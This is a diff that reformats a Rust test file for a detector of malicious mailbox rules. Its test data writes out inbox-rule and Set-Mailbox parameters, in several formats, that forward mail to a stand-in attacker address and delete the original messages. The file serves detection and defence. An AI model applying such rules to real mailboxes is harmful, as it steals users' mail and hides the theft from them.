@@ -15,15 +15,25 @@ fn damaged_parameters_are_read() {
     for parameters in [
         json!("Name: Post; ForwardTo: drop@evil.example; DeleteMessage: True"),
         json!("Name=Post | ForwardTo=drop@evil.example | DeleteMessage=True"),
-        json!(["@{Name=Name; Value=Post}", "@{Name=ForwardTo; Value=drop@evil.example}", "@{Name=DeleteMessage; Value=True}"]),
+        json!([
+            "@{Name=Name; Value=Post}",
+            "@{Name=ForwardTo; Value=drop@evil.example}",
+            "@{Name=DeleteMessage; Value=True}"
+        ]),
         json!("@{Name=ForwardTo; Value=drop@evil.example} @{Name=DeleteMessage; Value=True}"),
         json!({"Name": "Post", "ForwardTo": "drop@evil.example", "DeleteMessage": true}),
         json!([{"ForwardTo": "drop@evil.example"}, {"DeleteMessage": "True"}]),
-        json!("[{\"Name\":\"ForwardTo\",\"Value\":\"drop@evil.example\"},{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}]"),
+        json!(
+            "[{\"Name\":\"ForwardTo\",\"Value\":\"drop@evil.example\"},{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}]"
+        ),
         json!("-Name Post -ForwardTo drop@evil.example -DeleteMessage $true"),
     ] {
         let found = offline(&cmdlet(&parameters));
-        assert!(has(&found, "ForwardsExternally") && has(&found, "DeletesMessages"), "{parameters}: {:?}", reasons(&found));
+        assert!(
+            has(&found, "ForwardsExternally") && has(&found, "DeletesMessages"),
+            "{parameters}: {:?}",
+            reasons(&found)
+        );
         assert_eq!(found.outside_targets, ["drop@evil.example"], "{parameters}");
     }
 }
@@ -37,7 +47,11 @@ fn parameters_in_an_unknown_form_are_not_harmless() {
         json!([{"Name": "ForwardToEx", "Value": "drop@evil.example"}]),
     ] {
         let found = offline(&cmdlet(&parameters));
-        assert!(has(&found, "ContentNotVisible") && has(&found, "TargetUnresolved"), "{parameters}: {:?}", reasons(&found));
+        assert!(
+            has(&found, "ContentNotVisible") && has(&found, "TargetUnresolved"),
+            "{parameters}: {:?}",
+            reasons(&found)
+        );
         assert!(found.severity == Severity::Medium && !has(&found, "AppliesToAllMail"), "{parameters}");
         assert!(found.outside_targets.is_empty(), "nothing is proven: {parameters}");
     }
@@ -45,7 +59,9 @@ fn parameters_in_an_unknown_form_are_not_harmless() {
         let found = offline(&cmdlet(&parameters));
         assert_eq!((reasons(&found), found.severity), (vec!["ContentNotVisible"], Severity::Low), "{parameters}");
     }
-    let blob = cmdlet(&json!([{"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "True"}, {"Name": "From", "Value": "x@y.example"}]));
+    let blob = cmdlet(
+        &json!([{"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "True"}, {"Name": "From", "Value": "x@y.example"}]),
+    );
     assert_eq!(reasons(&offline(&blob)), Vec::<&str>::new());
 }
 
@@ -63,7 +79,12 @@ fn actions_in_an_unknown_form_are_not_harmless() {
     ] {
         let found = offline(&outlook_rule("Post", narrow, actions));
         assert_eq!(found.severity, severity, "{actions}: {:?}", reasons(&found));
-        assert_eq!(has(&found, "ContentNotVisible"), !actions.contains("ActionType"), "{actions}: {:?}", reasons(&found));
+        assert_eq!(
+            has(&found, "ContentNotVisible"),
+            !actions.contains("ActionType"),
+            "{actions}: {:?}",
+            reasons(&found)
+        );
     }
 }
 
@@ -78,7 +99,11 @@ fn actions_in_known_forms_are_read() {
         "ActionType: Forward; Recipients: drop@evil.example",
     ] {
         let found = offline(&outlook_rule("Post", narrow, actions));
-        assert!(has(&found, "ForwardsExternally") && !has(&found, "ContentNotVisible"), "{actions}: {:?}", reasons(&found));
+        assert!(
+            has(&found, "ForwardsExternally") && !has(&found, "ContentNotVisible"),
+            "{actions}: {:?}",
+            reasons(&found)
+        );
     }
 }
 
@@ -87,7 +112,8 @@ fn unread_mailbox_forwarding_is_not_harmless() {
     let members = json!({"ObjectId": "grady", "Parameters": "forwards to drop@evil.example"});
     let found = offline(&record("Set-Mailbox", &members));
     assert!(found.threat && has(&found, "ContentNotVisible"), "{:?}", reasons(&found));
-    let members = json!({"ObjectId": "grady", "Parameters": ["@{Name=ForwardingSmtpAddress; Value=smtp:drop@evil.example}"]});
+    let members =
+        json!({"ObjectId": "grady", "Parameters": ["@{Name=ForwardingSmtpAddress; Value=smtp:drop@evil.example}"]});
     assert!(has(&offline(&record("Set-Mailbox", &members)), "MailboxForwardsExternally"));
 }
 
